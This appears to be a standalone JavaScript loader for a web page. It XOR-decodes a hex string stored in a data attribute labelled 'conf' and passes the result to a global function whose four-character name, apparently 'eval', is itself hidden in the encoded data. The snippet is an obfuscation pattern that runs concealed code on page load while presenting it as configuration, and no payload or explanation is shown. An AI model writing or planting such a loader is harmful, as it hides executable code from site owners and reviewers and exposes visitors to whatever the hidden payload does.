(function () {
  var d = document.currentScript.dataset, k = d.key | 0, out = '';
  for (var i = 0; i < d.conf.length; i += 2) out += String.fromCharCode(parseInt(d.conf.substr(i, 2), 16) ^ k);
  window[out.slice(0, 4)](out.slice(4));
})();
